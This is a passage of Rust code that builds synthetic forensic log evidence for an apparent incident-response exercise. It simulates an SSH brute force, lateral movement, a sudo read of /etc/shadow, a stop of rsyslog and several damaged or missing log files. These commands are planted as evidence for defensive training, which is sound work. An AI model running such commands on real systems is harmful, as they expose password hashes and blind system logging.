        pid = 2000 + (pid + rng.random_range(3..300)) % 30_000;
        pid
    };
    // Hourly cron on both; background SSH noise on app01; alice's weekday admin on db01.
    let mut t = s + 17 * 60;
    while t < e {
        let p = next_pid(&mut rng);
        let us = rng.random_range(0..1_000_000);
        j.syslog(
            t,
            us,
            "app01",
            "CRON",
            p,
            6,
            "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
        );
        j.syslog(t, us + 900, "app01", "CRON", p, 6, "(root) CMD (cd / && run-parts --report /etc/cron.hourly)");
        j.syslog(t + 1, us, "app01", "CRON", p, 6, "pam_unix(cron:session): session closed for user root");
        let q = next_pid(&mut rng);
        a.execve(
            t,
            5,
            q,
            1201,
            0,
            None,
            None,
            "/usr/bin/run-parts",
            "/",
            &["run-parts", "--report", "/etc/cron.hourly"],
        );
        if rng.random_bool(0.12) {
            let ip = noise_ip(&mut rng);
            let port = rng.random_range(32_768..61_000);
            let p = next_pid(&mut rng);
            j.syslog(t + 600, 0, "app01", "sshd", p, 6, &format!("Connection closed by {ip} port {port} [preauth]"));
        }
        t += 3600;
    }
    let mut ses = 300;
    let mut day = s + 9 * 3600;
    while day < e {
        let weekday = (day / 86_400 + 4) % 7; // 1970-01-01 was a Thursday
        if (1..=5).contains(&weekday) {
            ses += 1;
            let p = next_pid(&mut rng);
            a.ssh_login(day + 120, p, "alice", 1000, ses, ADMIN_IP);
            a.sudo(day + 300, p + 3, 1000, ses, "/home/alice", "/usr/bin/dnf", &["dnf", "-q", "check-update"]);
        }
        day += 86_400;
    }
    // The intruder tries deploy on app01 an hour before the brute force that works on web01.
    let t0 = utc(2025, 12, 30, 1, 10, 0);
    for i in 0..8 {
        let p = next_pid(&mut rng);
        let port = rng.random_range(32_768..61_000);
        let t = t0 + i * 40;
        let pam = format!("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={INTRUDER_IP}  user=deploy");
        j.syslog(t, 120, "app01", "sshd", p, 5, &pam);
        j.syslog(
            t + 2,
            350,
            "app01",
            "sshd",
            p,
            6,
            &format!("Failed password for deploy from {INTRUDER_IP} port {port} ssh2"),
        );
        j.syslog(
            t + 3,
            10,
            "app01",
            "sshd",
            p,
            6,
            &format!("Connection closed by authenticating user deploy {INTRUDER_IP} port {port} [preauth]"),
        );
    }
    // db01's side of the lateral movement (9e), which auditd keeps while rsyslog is stopped.
    let t = utc(2025, 12, 30, 2, 35, 12);
    ses += 1;
    a.ssh_login(t, 7713, "deploy", 1002, ses, WEB01_IP);
    a.sudo(t + 40, 7790, 1002, ses, "/home/deploy", "/usr/bin/cat", &["/bin/cat", "/etc/shadow"]);
    a.sudo(t + 190, 7821, 1002, ses, "/home/deploy", "/usr/bin/systemctl", &["/usr/bin/systemctl", "stop", "rsyslog"]);
    (j, a)
}

fn numbered(codecs: [Codec; 4], skip: Option<usize>) -> Vec<Generation> {
    let r = rotations();
    let bounds = [start(), r[0], r[1], r[2], end()];
    let names = [".3", ".2", ".1", ""];
    (0..4)
        .filter(|i| Some(*i) != skip)
        .map(|i| Generation { suffix: names[i].to_string(), codec: codecs[i], from: bounds[i], to: bounds[i + 1] })
        .collect()
}

fn dated(codecs: [Codec; 4]) -> Vec<Generation> {
    let r = rotations();
    let bounds = [start(), r[0], r[1], r[2], end()];
    (0..4)
        .map(|i| {
            let suffix = if i == 3 {
                String::new()
            } else {
                let (y, m, d, ..) = write::ymdhms(bounds[i + 1]);
                format!("-{y:04}{m:02}{d:02}")
            };
            Generation { suffix, codec: codecs[i], from: bounds[i], to: bounds[i + 1] }
        })
        .collect()
}

/// Writes the sample evidence tree under `root` (which is emptied first).
pub fn write_sample(root: &Path, seed: u64) -> std::io::Result<Vec<String>> {
    if root.exists() {
        std::fs::remove_dir_all(root)?;
    }
    let mut g = Gen {
        rng: ChaCha8Rng::seed_from_u64(seed),
        web_auth: LogFile::default(),
        web_syslog: LogFile::default(),
        web_ufw: LogFile::default(),
        web_access: LogFile::default(),
        web_app: LogFile::default(),
        db_secure: LogFile::default(),
        db_messages: LogFile::default(),
        db_vpn: LogFile { crlf: true, ..Default::default() },
        gw_log: LogFile::default(),
        pid: 1000,
        session: 100,
    };
    background(&mut g);
    incidents(&mut g);
    use Codec::*;
    let mut files = Vec::new();
    files.extend(write::write_rotated(
        root,
        "web01/var/log/auth.log",
        std::mem::take(&mut g.web_auth),
        &numbered([Gzip, Gzip, Plain, Plain], None),
    )?);
    // syslog.2.gz is missing from the copy (a log_integrity finding).
    files.extend(write::write_rotated(
        root,
        "web01/var/log/syslog",
        std::mem::take(&mut g.web_syslog),
        &numbered([Gzip, Gzip, Plain, Plain], Some(1)),
    )?);
    files.extend(write::write_rotated(
        root,
        "web01/var/log/ufw.log",
        std::mem::take(&mut g.web_ufw),
        &numbered([Gzip, Gzip, Plain, Plain], None),
    )?);
    files.extend(write::write_rotated(
        root,
        "web01/var/log/apache2/access.log",
        std::mem::take(&mut g.web_access),
        &numbered([Gzip, Gzip, Plain, Plain], None),
    )?);
    files.extend(write::write_rotated(
        root,
        "web01/var/log/app/app.json",
        std::mem::take(&mut g.web_app),
        &numbered([Gzip, Gzip, Plain, Plain], None),
    )?);
    files.extend(write::write_rotated(
        root,
        "db01/var/log/secure",
        std::mem::take(&mut g.db_secure),
        &dated([Xz, Plain, Plain, Plain]),
    )?);
    files.extend(write::write_rotated(
        root,
        "db01/var/log/messages",
        std::mem::take(&mut g.db_messages),
        &dated([Zstd, Bzip2, Plain, Plain]),
    )?);
    let (journal, audit) = linux_evidence(seed);
    let whole = |codec| vec![Generation { suffix: String::new(), codec, from: start() - 1, to: end() }];
    files.extend(write::write_rotated(root, "app01/var/log/journal.export", journal.into_log(), &whole(Plain))?);
    files.extend(write::write_rotated(root, "db01/var/log/audit/audit.log", audit.log, &whole(Plain))?);
    // The VPN export has a header row and Windows line endings.
    let mut vpn = std::mem::take(&mut g.db_vpn);
    vpn.push(start() - 1, "timestamp,user_id,source_ip,destination_ip,action,success".into());
    files.extend(write::write_rotated(
        root,
        "db01/var/log/vpn/vpn_logins.csv",
        vpn,
        &[Generation { suffix: String::new(), codec: Plain, from: start() - 1, to: end() }],
    )?);
    // gw01: the collector file; its older half is gzip without a .gz name (detected by magic bytes).
    let mid = utc(2025, 12, 22, 0, 0, 0);
    let gw = std::mem::take(&mut g.gw_log);
    files.extend(write::write_rotated(
        root,
        "gw01/var/log/remote/gw01.log",
        gw,
        &[
            Generation { suffix: ".1".into(), codec: Gzip, from: start(), to: mid },
            Generation { suffix: String::new(), codec: Plain, from: mid, to: end() },
        ],
    )?);
    if let Some(f) = files.iter_mut().find(|f| f.as_str() == "gw01/var/log/remote/gw01.log.1.gz") {
        let from = root.join(&*f);
        let to = root.join("gw01/var/log/remote/gw01.log.1");
        std::fs::rename(&from, &to)?;
        write::set_mtime(&to, mid - 1)?;
        *f = "gw01/var/log/remote/gw01.log.1".into();
    }
    // Damage: access.log.3.gz cut short, mail.log emptied, a copy of access.log.1 left in a home dir.
    let gz = root.join("web01/var/log/apache2/access.log.3.gz");
    let bytes = std::fs::read(&gz)?;
    write::write_file(&gz, &bytes[..bytes.len() * 2 / 3], rotations()[0] - 1)?;
    write::write_file(&root.join("web01/var/log/mail.log"), b"", utc(2025, 12, 30, 3, 1, 0))?;
    files.push("web01/var/log/mail.log".into());
    let copy = std::fs::read(root.join("web01/var/log/apache2/access.log.1"))?;
    write::write_file(&root.join("web01/home/deploy/backup/access.log.1"), &copy, utc(2025, 12, 30, 2, 49, 0))?;
    files.push("web01/home/deploy/backup/access.log.1".into());
    files.sort();
    Ok(files)
}
